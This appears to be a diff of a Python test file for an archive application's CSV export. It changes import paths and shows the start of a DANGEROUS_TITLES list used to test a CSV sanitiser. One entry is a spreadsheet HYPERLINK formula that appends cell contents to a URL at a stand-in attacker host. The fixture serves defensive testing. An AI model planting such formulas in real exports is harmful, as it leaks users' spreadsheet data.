@@ -10,8 +10,8 @@ import pytest
 from flask.testing import FlaskClient
 
 from archive.formats import csvsafe
-from archive.services import api
-from archive.services.api import CSV_COLUMNS
+from archive.interop import api
+from archive.interop.api import CSV_COLUMNS
 
 DANGEROUS_TITLES = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
